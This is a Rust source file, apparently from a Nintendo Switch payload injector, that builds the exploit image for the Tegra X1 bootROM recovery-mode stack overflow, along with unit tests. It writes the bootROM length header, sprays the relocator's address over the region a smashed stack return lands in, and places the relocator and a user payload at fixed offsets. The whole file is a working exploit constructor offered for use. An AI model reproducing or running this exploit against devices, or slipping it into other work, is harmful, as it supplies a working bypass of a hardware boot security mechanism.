//! Construction of the exploit image pushed to the bootROM.
//!
//! All offsets below are mandated by the Tegra X1 memory map and must
//! not change: the bootROM reads the length field at offset 0, the
//! smashed stack lands inside the sprayed region, and the intermezzo
//! relocator expects the user payload at its absolute load address.

use std::fs::File;
use std::io::{self, Read};
use std::path::Path;

/// Address the bootROM loads the RCM message to.
pub const RCM_PAYLOAD_ADDRESS: u32 = 0x4001_0000;

/// Load address of the intermezzo relocator. This is the value sprayed
/// over the stack, so a corrupted return address jumps into it.
pub const INTERMEZZO_LOCATION: u32 = 0x4001_F000;

/// Address the user payload must end up at.
pub const PAYLOAD_LOAD_BLOCK: u32 = 0x4002_0000;

/// Capacity of the exploit image, the maximum the bootROM accepts.
pub const MAX_PAYLOAD_LENGTH: usize = 0x30298;

/// Byte offset of the first sprayed return address within the image.
pub const STACK_SPRAY_OFFSET: usize = 680;

const STACK_SPRAY_LENGTH: usize = (INTERMEZZO_LOCATION - RCM_PAYLOAD_ADDRESS) as usize;

/// Byte offset of the intermezzo relocator within the image.
pub const INTERMEZZO_OFFSET: usize = STACK_SPRAY_OFFSET + STACK_SPRAY_LENGTH;

/// Byte offset of the user payload within the image. The gap behind
/// the intermezzo aligns the payload with its absolute load address.
pub const USER_PAYLOAD_OFFSET: usize =
    INTERMEZZO_OFFSET + (PAYLOAD_LOAD_BLOCK - INTERMEZZO_LOCATION) as usize;

/// Reusable arena holding one exploit image.
///
/// The buffer is created once and passed by exclusive reference into
/// [`assemble`] and the transfer calls, so no per-injection allocation
/// happens. The alignment satisfies the USB transfer requirements of
/// the chunked writes sourced from it.
#[repr(C, align(4096))]
pub struct PayloadBuffer {
    bytes: [u8; MAX_PAYLOAD_LENGTH],
}

impl PayloadBuffer {
    pub const fn new() -> Self {
        PayloadBuffer {
            bytes: [0; MAX_PAYLOAD_LENGTH],
        }
    }

    pub fn as_bytes(&self) -> &[u8] {
        &self.bytes
    }
}

impl Default for PayloadBuffer {
    fn default() -> Self {
        PayloadBuffer::new()
    }
}

/// Outcome of filling one optional region of the exploit image.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RegionStatus {
    /// The region holds this many bytes of real data.
    Loaded(usize),
    /// The backing data was absent or unreadable; the region is zero.
    Missing,
}

/// Result of [`assemble`].
///
/// Assembly never fails: an image is always produced, possibly with
/// zeroed regions. The bootROM tolerates those, even though an image
/// without a valid intermezzo will almost certainly not boot anything.
/// Callers are expected to surface [`RegionStatus::Missing`] as a
/// warning rather than treat it as success.
#[derive(Clone, Copy, Debug)]
pub struct AssembledPayload {
    /// Number of image bytes carrying data, always <= capacity.
    pub used: usize,
    pub intermezzo: RegionStatus,
    pub payload: RegionStatus,
}

/// Builds the exploit image for the payload file at `payload_path`.
///
/// The intermezzo bytes are read once at startup by the caller and
/// handed in here; `None` leaves the relocator region zeroed. A missing
/// or unreadable payload file likewise leaves its region zeroed and the
/// cursor unmoved. Everything not explicitly written is zero.
pub fn assemble(
    buffer: &mut PayloadBuffer,
    intermezzo: Option<&[u8]>,
    payload_path: &Path,
) -> AssembledPayload {
    buffer.bytes.fill(0);

    // The bootROM reads this as the total transfer length.
    buffer.bytes[..4].copy_from_slice(&(MAX_PAYLOAD_LENGTH as u32).to_le_bytes());

    // Spray the intermezzo address over the address range the smashed
    // stack can land in.
    let mut cursor = STACK_SPRAY_OFFSET;
    for _ in 0..STACK_SPRAY_LENGTH / 4 {
        buffer.bytes[cursor..cursor + 4].copy_from_slice(&INTERMEZZO_LOCATION.to_le_bytes());
        cursor += 4;
    }

    let intermezzo_status = match intermezzo {
        Some(code) if !code.is_empty() => {
            let length = code.len().min(MAX_PAYLOAD_LENGTH - cursor);
            buffer.bytes[cursor..cursor + length].copy_from_slice(&code[..length]);
            RegionStatus::Loaded(length)
        }
        _ => RegionStatus::Missing,
    };

    // The user payload sits at its absolute load address, not directly
    // behind the intermezzo bytes.
    cursor += (PAYLOAD_LOAD_BLOCK - INTERMEZZO_LOCATION) as usize;

    let payload_status = match read_into(&mut buffer.bytes[cursor..], payload_path) {
        Ok(length) => {
            cursor += length;
            RegionStatus::Loaded(length)
        }
        Err(_) => RegionStatus::Missing,
    };

    AssembledPayload {
        used: cursor,
        intermezzo: intermezzo_status,
        payload: payload_status,
    }
}

/// Reads `path` into `region` until the file ends or the region is
/// full, whichever comes first.
fn read_into(region: &mut [u8], path: &Path) -> io::Result<usize> {
    let mut file = File::open(path)?;
    let mut total = 0;

    while total < region.len() {
        match file.read(&mut region[total..])? {
            0 => break,
            read => total += read,
        }
    }

    Ok(total)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;
    use std::path::PathBuf;

    fn missing_path() -> PathBuf {
        PathBuf::from("/nonexistent/spacedock/payload.bin")
    }

    fn assemble_with(
        intermezzo: Option<&[u8]>,
        payload_path: &Path,
    ) -> (Box<PayloadBuffer>, AssembledPayload) {
        let mut buffer = Box::new(PayloadBuffer::new());
        let assembled = assemble(&mut buffer, intermezzo, payload_path);
        (buffer, assembled)
    }

    #[test]
    fn length_header_is_little_endian_capacity() {
        let (buffer, _) = assemble_with(None, &missing_path());
        assert_eq!(&buffer.as_bytes()[..4], &[0x98, 0x02, 0x03, 0x00]);
    }

    #[test]
    fn stack_spray_contents() {
        let (buffer, _) = assemble_with(None, &missing_path());

        // Nothing between the length field and the spray region.
        assert!(buffer.as_bytes()[4..STACK_SPRAY_OFFSET]
            .iter()
            .all(|&b| b == 0));

        let count = STACK_SPRAY_LENGTH / 4;
        assert_eq!(
            &buffer.as_bytes()[STACK_SPRAY_OFFSET..INTERMEZZO_OFFSET],
            INTERMEZZO_LOCATION.to_le_bytes().repeat(count).as_slice()
        );
    }

    #[test]
    fn missing_intermezzo_is_tolerated() {
        let (buffer, assembled) = assemble_with(None, &missing_path());

        assert_eq!(assembled.intermezzo, RegionStatus::Missing);
        assert!(buffer.as_bytes()[INTERMEZZO_OFFSET..USER_PAYLOAD_OFFSET]
            .iter()
            .all(|&b| b == 0));

        // The spray region must survive the missing relocator.
        assert_eq!(
            &buffer.as_bytes()[STACK_SPRAY_OFFSET..STACK_SPRAY_OFFSET + 4],
            &INTERMEZZO_LOCATION.to_le_bytes()
        );
    }

    #[test]
    fn intermezzo_bytes_follow_the_spray() {
        let code = [0xAA; 16];
        let (buffer, assembled) = assemble_with(Some(&code), &missing_path());

        assert_eq!(assembled.intermezzo, RegionStatus::Loaded(16));
        assert_eq!(
            &buffer.as_bytes()[INTERMEZZO_OFFSET..INTERMEZZO_OFFSET + 16],
            &code
        );
        assert!(buffer.as_bytes()[INTERMEZZO_OFFSET + 16..USER_PAYLOAD_OFFSET]
            .iter()
            .all(|&b| b == 0));
    }

    #[test]
    fn user_payload_lands_at_its_load_offset() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("payload.bin");
        let data: Vec<u8> = (0..1000u32).map(|i| i as u8).collect();
        fs::write(&path, &data).unwrap();

        let (buffer, assembled) = assemble_with(None, &path);

        assert_eq!(assembled.payload, RegionStatus::Loaded(1000));
        assert_eq!(assembled.used, USER_PAYLOAD_OFFSET + 1000);
        assert_eq!(
            &buffer.as_bytes()[USER_PAYLOAD_OFFSET..USER_PAYLOAD_OFFSET + 1000],
            data.as_slice()
        );
    }

    #[test]
    fn missing_payload_leaves_cursor_unmoved() {
        let (buffer, assembled) = assemble_with(None, &missing_path());

        assert_eq!(assembled.payload, RegionStatus::Missing);
        assert_eq!(assembled.used, USER_PAYLOAD_OFFSET);
        assert!(buffer.as_bytes()[USER_PAYLOAD_OFFSET..]
            .iter()
            .all(|&b| b == 0));
    }

    #[test]
    fn oversized_payload_is_truncated_to_capacity() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("huge.bin");
        fs::write(&path, vec![0x5A; MAX_PAYLOAD_LENGTH]).unwrap();

        let (buffer, assembled) = assemble_with(None, &path);

        let capacity_left = MAX_PAYLOAD_LENGTH - USER_PAYLOAD_OFFSET;
        assert_eq!(assembled.payload, RegionStatus::Loaded(capacity_left));
        assert_eq!(assembled.used, MAX_PAYLOAD_LENGTH);
        assert!(buffer.as_bytes()[USER_PAYLOAD_OFFSET..]
            .iter()
            .all(|&b| b == 0x5A));
    }
}
